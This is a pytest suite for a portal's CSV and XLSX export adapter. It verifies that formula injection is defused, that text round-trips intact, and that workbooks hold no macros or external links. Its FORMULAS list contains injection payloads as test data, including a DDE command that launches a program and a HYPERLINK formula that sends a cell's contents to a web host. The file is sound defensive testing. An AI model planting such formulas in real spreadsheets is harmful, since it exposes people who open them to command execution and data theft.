"""Tables as files: nothing in them runs, and every text comes back as it was."""

from __future__ import annotations

import csv
import io
import tracemalloc
from collections.abc import Iterator, Sequence
from datetime import date, datetime
from decimal import Decimal
from typing import Any
from zipfile import ZipFile

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook
from openpyxl.utils.escape import unescape

from portal.adapters.documents import LONGEST, UNREADABLE, Column, Kind, csv_lines, xlsx_file

FORMULAS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.org/?"&A1,"Read me")',
    "+1+1",
    "-2+3",
    "- a point of a list",
    "@SUM(1+1)",
    "\t=1+1",
    "\n=1+1",
    "\u00a0=1+1",
    "  =1+1",
    "\uff1d1+1",
    "\uff20SUM(1)",
]
TEXTS = [
    "plain",
    "",
    "'=1+1",
    'say "hello", then\nsay it again',
    "a;b\tc,d",
    "Tŷ Hafan, Ynys Môn",
    "\u05e9\u05dc\u05d5\u05dd \U0001f469\U0001f3fd\u200d\U0001f692",
    "<b>&amp;</b> ]]> <!-- -->",
    "_x0041_ and _x000D_ and _xZZZZ_",
    "  spaces around  ",
    "00123",
    "1E5",
    "#N/A",
    "#REF!",
    "2005-01-17",
    "TRUE",
    "{=1+1}",
    "x" * 5000,
]
UNFIT = ["a\x00b", "a\x1fb", "a\ud800b", "a\ufffeb", "a\x0bb"]
ONE = [Column("Words")]


def read_csv(columns: Sequence[Column], rows: Any) -> list[list[str]]:
    text = b"".join(csv_lines(columns, rows)).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline=""), strict=True))


def read_xlsx(columns: Sequence[Column], rows: Any, title: str = "Things") -> list[list[Any]]:
    with xlsx_file(title, columns, rows) as file:
        return [list(row) for row in load_workbook(file).worksheets[0].iter_rows()]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_is_made_harmless_in_csv(text: str) -> None:
    assert read_csv(ONE, [[text]]) == [["Words"], [f"'{text}"]]


def test_a_carriage_return_first_is_made_harmless_too() -> None:
    assert read_csv(ONE, [["\r=1+1"]])[1] == ["'\r=1+1"]


@pytest.mark.parametrize("text", TEXTS)
def test_every_other_text_comes_back_from_csv(text: str) -> None:
    assert read_csv(ONE, [[text]])[1] == [text]


@pytest.mark.parametrize("text", [*FORMULAS, *TEXTS[2:]])
def test_every_text_comes_back_from_a_workbook_as_text(text: str) -> None:
    cell = read_xlsx(ONE, [[text]])[1][0]
    assert (unescape(cell.value), cell.data_type) == (text, "s")


@pytest.mark.parametrize("text", FORMULAS)
def test_what_looks_like_a_formula_stays_text_when_somebody_types_in_its_cell(text: str) -> None:
    assert read_xlsx(ONE, [[text]])[1][0].quotePrefix


@pytest.mark.parametrize("text", UNFIT)
def test_a_character_that_no_file_can_hold_is_shown_as_such(text: str) -> None:
    shown = f"a{UNREADABLE}b"
    assert read_csv(ONE, [[text]])[1] == [shown]
    assert read_xlsx(ONE, [[text]])[1][0].value == shown


@settings(max_examples=200, deadline=None)
@given(st.lists(st.text(max_size=40).map(lambda text: text.replace("\r", "")), min_size=1, max_size=5))
def test_no_text_becomes_anything_else(texts: list[str]) -> None:
    for text, cell in zip(texts, [row[0] for row in read_xlsx(ONE, [[text] for text in texts])[1:]], strict=True):
        assert cell.data_type == "s" or cell.value is None
        assert len(unescape(cell.value or "")) == len(text)
    for row in read_csv(ONE, [[text] for text in texts])[1:]:
        assert row[0][:1] not in set("=+-@\t\n")


def test_a_heading_cannot_be_a_formula_either() -> None:
    heading = [Column("=1+1")]
    assert read_csv(heading, []) == [["'=1+1"]]
    assert read_xlsx(heading, [])[0][0].data_type == "s"


KINDS = [
    Column("Name", width=30),
    Column("Day", Kind.DAY),
    Column("Amount", Kind.MONEY),
    Column("Number", Kind.NUMBER),
]
ROWS = [
    ["Swindon", date(2005, 1, 17), 260_000_000, 7],
    ["Kent", date(1889, 4, 1), 350_050, Decimal("62.50")],
    ["Nobody", None, None, None],
    ["Owed", date(1900, 3, 1), -5, -3],
]


def test_csv_has_days_as_iso_and_money_in_pounds() -> None:
    assert read_csv(KINDS, ROWS)[1:] == [
        ["Swindon", "2005-01-17", "2600000.00", "7"],
        ["Kent", "1889-04-01", "3500.50", "62.50"],
        ["Nobody", "", "", ""],
        ["Owed", "1900-03-01", "-0.05", "-3"],
    ]


def test_a_workbook_has_days_as_days_and_money_as_numbers() -> None:
    head, swindon, kent, nobody, owed = read_xlsx(KINDS, ROWS)
    assert all(cell.font.b for cell in head)
    assert [cell.value for cell in swindon] == ["Swindon", datetime(2005, 1, 17), 2_600_000, 7]  # noqa: DTZ001
    assert "yyyy" in swindon[1].number_format
    assert "£" in swindon[2].number_format
    # Before March 1900 spreadsheets have no days.
    assert [cell.value for cell in kent] == ["Kent", "1889-04-01", 3500.5, 62.5]
    assert [cell.value for cell in nobody] == ["Nobody", None, None, None]
    assert [cell.value for cell in owed] == ["Owed", datetime(1900, 3, 1), -0.05, -3]  # noqa: DTZ001


@pytest.mark.parametrize(
    ("kind", "value"),
    [
        (Kind.TEXT, 1),
        (Kind.DAY, "2005-01-17"),
        (Kind.DAY, datetime(2005, 1, 17)),  # noqa: DTZ001
        (Kind.MONEY, Decimal("1.5")),
        (Kind.NUMBER, True),
        (Kind.NUMBER, "=1"),
    ],
)
def test_a_value_of_another_kind_is_a_mistake_of_ours(kind: Kind, value: Any) -> None:
    with pytest.raises(TypeError, match="in a column of"):
        list(csv_lines([Column("A", kind)], [[value]]))
    with pytest.raises(TypeError, match="in a column of"):
        xlsx_file("A", [Column("A", kind)], [[value]])


def test_a_text_longer_than_a_cell_is_cut_where_it_can_be_seen() -> None:
    value = read_xlsx(ONE, [["\U0001f600" * LONGEST]])[1][0].value
    assert len(value.encode("utf-16-le")) // 2 <= LONGEST
    assert value.endswith("\U0001f600…")


def test_a_title_fits_a_sheet() -> None:
    with xlsx_file("What [is] this: a/b\\c? *'&<\x00" + "x" * 50, ONE, []) as file:
        name = load_workbook(file).sheetnames[0]
    assert len(name) <= 31
    assert not set("[]:*?/\\") & set(name)


def test_a_workbook_holds_no_program_and_nothing_from_outside() -> None:
    with xlsx_file("Things", ONE, [["=1+1"]]) as file, ZipFile(file) as archive:
        assert archive.testzip() is None
        assert not [name for name in archive.namelist() if "vba" in name.lower() or "external" in name.lower()]
        assert b"<f>" not in archive.read("xl/worksheets/sheet1.xml")


@pytest.mark.parametrize("columns", [1, 26, 27, 703])
def test_many_columns_keep_their_places(columns: int) -> None:
    rows = read_xlsx([Column(f"Heading {place}") for place in range(columns)], [[str(n) for n in range(columns)]])
    assert [cell.value for cell in rows[1]] == [str(place) for place in range(columns)]


def test_a_long_table_takes_no_more_memory_than_a_short_one() -> None:
    def rows() -> Iterator[list[str]]:
        for number in range(20_000):
            yield [f"Row {number} " + "x" * 200]

    tracemalloc.start()
    try:
        xlsx_file("Long", ONE, rows()).close()
        for _ in csv_lines(ONE, rows()):
            pass
        most = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert most < 1_500_000
